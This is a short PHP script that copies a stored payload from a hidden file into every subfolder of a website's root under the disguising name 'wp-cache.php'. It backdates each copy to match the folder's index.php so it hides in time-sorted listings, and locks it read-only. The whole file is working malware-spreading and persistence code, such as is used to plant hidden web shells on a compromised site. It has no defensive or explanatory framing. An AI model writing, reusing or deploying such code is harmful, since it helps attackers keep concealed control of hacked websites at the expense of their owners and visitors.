<?php
// drops a stored script beside each index.php below the site, dated like that folder's
// own index.php so a listing sorted by time hides it, and locks it read-only
$me = file_get_contents(__DIR__ . '/.tmp.dat');
foreach (glob($_SERVER['DOCUMENT_ROOT'] . '/*/index.php') as $index) {
    $dir = dirname($index);
    $twin = $dir . '/wp-cache.php';
    file_put_contents($twin, $me);
    touch($twin, filemtime($dir . '/index.php'));
    chmod($twin, 0444);
}
